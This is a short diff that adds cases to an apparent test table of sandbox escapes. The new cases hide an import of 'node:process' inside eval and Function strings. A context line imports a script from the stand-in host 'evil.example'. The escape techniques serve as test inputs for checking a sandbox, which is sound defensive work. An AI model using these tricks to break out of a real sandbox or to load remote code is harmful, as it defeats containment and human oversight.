@@ -182,6 +182,17 @@ const IMPORTS: readonly Escape[] = [
     ...imported("node:fs"),
   },
   {
+    name: "import in text that is evaluated by nobody's code",
+    push: "await Promise.resolve(\"import('node:process')\").then(eval);",
+    ...imported("node:process"),
+  },
+  {
+    name: "import in a function made of text by nobody's code",
+    push:
+      "await Promise.resolve(\"return import('node:process')\").then(Function).then((made) => made());",
+    ...imported("node:process"),
+  },
+  {
     name: "import from the network",
     loading: "import",
     push: "await import('https://evil.example/x.js');",
